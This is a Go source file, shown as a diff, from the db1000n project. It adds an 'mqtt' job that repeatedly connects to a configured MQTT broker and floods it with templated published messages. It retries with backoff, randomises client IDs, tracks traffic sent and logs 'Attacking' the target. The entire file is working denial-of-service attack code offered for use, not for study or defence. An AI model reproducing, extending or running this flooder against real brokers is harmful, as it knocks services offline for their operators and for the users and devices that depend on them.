@@ -0,0 +1,222 @@
+// MIT License
+
+// Copyright (c) [2022] [Bohdan Ivashko (https://github.com/Arriven)]
+
+// Permission is hereby granted, free of charge, to any person obtaining a copy
+// of this software and associated documentation files (the "Software"), to deal
+// in the Software without restriction, including without limitation the rights
+// to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+// copies of the Software, and to permit persons to whom the Software is
+// furnished to do so, subject to the following conditions:
+
+// The above copyright notice and this permission notice shall be included in all
+// copies or substantial portions of the Software.
+
+// THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+// IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+// FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+// AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+// LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+// OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
+// SOFTWARE.
+
+package job
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"log"
+	"strings"
+	"text/template"
+	"time"
+
+	mqtt "github.com/eclipse/paho.mqtt.golang"
+	"github.com/google/uuid"
+	"go.uber.org/zap"
+
+	"github.com/Arriven/db1000n/src/core/http"
+	"github.com/Arriven/db1000n/src/job/config"
+	"github.com/Arriven/db1000n/src/utils"
+	"github.com/Arriven/db1000n/src/utils/metrics"
+	"github.com/Arriven/db1000n/src/utils/templates"
+)
+
+const defaultMQTTTimeout = 10 * time.Second
+
+type mqttJobConfig struct {
+	BasicJobConfig
+
+	Address      string          // broker url, i.e. tcp://host:1883, ssl://host:8883, or ws://host/mqtt
+	Topic        string          // templated for every message
+	Payload      string          // templated for every message
+	QoS          byte            `mapstructure:"qos"`
+	Retain       bool            `mapstructure:"retain"`
+	ClientID     string          `mapstructure:"client_id"` // random if empty
+	Username     string          `mapstructure:"username"`
+	Password     string          `mapstructure:"password"`
+	TLS          *http.TLSConfig `mapstructure:"tls"`           // used by ssl:// and wss:// brokers, certificates aren't verified by default
+	CleanSession *bool           `mapstructure:"clean_session"` // true by default
+	Timeout      *time.Duration
+}
+
+func mqttJob(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig, args config.Args) (data interface{}, err error) {
+	ctx, cancel := context.WithCancel(ctx)
+	defer cancel()
+
+	var jobConfig mqttJobConfig
+	if err := ParseConfig(&jobConfig, args, *globalConfig); err != nil {
+		return nil, fmt.Errorf("error parsing job config: %w", err)
+	}
+
+	if jobConfig.Address == "" || jobConfig.Topic == "" {
+		return nil, errors.New("broker address and topic are required")
+	}
+
+	const maxQoS = 2
+
+	if jobConfig.QoS > maxQoS {
+		return nil, fmt.Errorf("unsupported qos %d, expected 0, 1, or 2", jobConfig.QoS)
+	}
+
+	topicTpl, err := templates.Parse(jobConfig.Topic)
+	if err != nil {
+		return nil, fmt.Errorf("error parsing topic template: %w", err)
+	}
+
+	payloadTpl, err := templates.Parse(jobConfig.Payload)
+	if err != nil {
+		return nil, fmt.Errorf("error parsing payload template: %w", err)
+	}
+
+	opts, err := newMQTTClientOptions(ctx, logger, &jobConfig)
+	if err != nil {
+		return nil, err
+	}
+
+	backoffController := utils.NewBackoffController(utils.NonNilBackoffConfigOrDefault(jobConfig.BackoffConfig, globalConfig.Backoff))
+
+	trafficMonitor := jobConfig.newTrafficMonitor()
+	go trafficMonitor.Update(ctx, time.Second)
+
+	processedTrafficMonitor := metrics.Default.NewWriter(metrics.ProcessedTraffic, uuid.NewString())
+	go processedTrafficMonitor.Update(ctx, time.Second)
+
+	if !isInEncryptedContext(ctx) {
+		log.Printf("Attacking %v", jobConfig.Address)
+	}
+
+	for jobConfig.Next(ctx) {
+		if err := publishMQTT(ctx, logger, opts, &jobConfig, topicTpl, payloadTpl, trafficMonitor, processedTrafficMonitor); err != nil {
+			logger.Debug("mqtt connection failed", zap.String("address", jobConfig.Address), zap.Error(err))
+			utils.Sleep(ctx, backoffController.Increment().GetTimeout())
+		} else {
+			backoffController.Reset()
+		}
+	}
+
+	return nil, nil
+}
+
+func newMQTTClientOptions(ctx context.Context, logger *zap.Logger, jobConfig *mqttJobConfig) (*mqtt.ClientOptions, error) {
+	// brokers are allowed to reject longer ids
+	const maxClientIDLength = 23
+
+	clientID := templates.ParseAndExecute(logger, jobConfig.ClientID, ctx)
+	if clientID == "" {
+		clientID = strings.ReplaceAll(uuid.NewString(), "-", "")[:maxClientIDLength]
+	}
+
+	if jobConfig.TLS == nil {
+		jobConfig.TLS = &http.TLSConfig{}
+	}
+
+	tlsConfig, err := jobConfig.TLS.Build()
+	if err != nil {
+		return nil, fmt.Errorf("error parsing tls config: %w", err)
+	}
+
+	// also bounds the time a publish can block when the connection is lost in the middle of it
+	timeout := utils.NonNilDurationOrDefault(jobConfig.Timeout, defaultMQTTTimeout)
+
+	// MQTT 3.1.1, otherwise rejected connections are retried with 3.1
+	const protocolVersion = 4
+
+	// reconnects are driven by the job to respect its backoff, the store is shared by all the connections
+	// so that messages that haven't been acknowledged are resent when the session is resumed
+	return mqtt.NewClientOptions().
+		AddBroker(templates.ParseAndExecute(logger, jobConfig.Address, ctx)).
+		SetProtocolVersion(protocolVersion).
+		SetClientID(clientID).
+		SetUsername(jobConfig.Username).
+		SetPassword(jobConfig.Password).
+		SetTLSConfig(tlsConfig).
+		SetCleanSession(jobConfig.CleanSession == nil || *jobConfig.CleanSession).
+		SetStore(mqtt.NewMemoryStore()).
+		SetConnectTimeout(timeout).
+		SetWriteTimeout(timeout).
+		SetAutoReconnect(false).
+		SetConnectRetry(false), nil
+}
+
+func publishMQTT(ctx context.Context, logger *zap.Logger, opts *mqtt.ClientOptions, jobConfig *mqttJobConfig,
+	topicTpl, payloadTpl *template.Template, trafficMonitor, processedTrafficMonitor *metrics.Writer,
+) error {
+	// time for in-flight messages to be sent before disconnecting
+	const quiesceMilliseconds = 250
+
+	timeout := utils.NonNilDurationOrDefault(jobConfig.Timeout, defaultMQTTTimeout)
+	lost := make(chan error, 1)
+
+	// the client keeps its own copy of the options
+	client := mqtt.NewClient(opts.SetConnectionLostHandler(func(_ mqtt.Client, err error) { lost <- err }))
+
+	if err := waitMQTT(ctx, client.Connect(), timeout, lost); err != nil {
+		if ctx.Err() != nil {
+			return nil
+		}
+
+		metrics.IncMQTT(jobConfig.Address, metrics.StatusFail)
+
+		return err
+	}
+
+	defer client.Disconnect(quiesceMilliseconds)
+
+	for jobConfig.Next(ctx) {
+		topic := templates.Execute(logger, topicTpl, ctx)
+		payload := []byte(templates.Execute(logger, payloadTpl, ctx))
+
+		trafficMonitor.Add(uint64(len(payload)))
+
+		if err := waitMQTT(ctx, client.Publish(topic, jobConfig.QoS, jobConfig.Retain, payload), timeout, lost); err != nil {
+			if ctx.Err() != nil {
+				return nil
+			}
+
+			metrics.IncMQTT(jobConfig.Address, metrics.StatusFail)
+
+			return err
+		}
+
+		processedTrafficMonitor.Add(uint64(len(payload)))
+		metrics.IncMQTT(jobConfig.Address, metrics.StatusSuccess)
+	}
+
+	return nil
+}
+
+// waitMQTT waits for the operation to complete without blocking job shutdown on slow brokers,
+// in-flight operations are not completed when the connection is lost so that is checked as well
+func waitMQTT(ctx context.Context, token mqtt.Token, timeout time.Duration, lost <-chan error) error {
+	select {
+	case <-token.Done():
+		return token.Error()
+	case err := <-lost:
+		return err
+	case <-ctx.Done():
+		return ctx.Err()
+	case <-time.After(timeout):
+		return errors.New("timeout waiting for the broker")
+	}
+}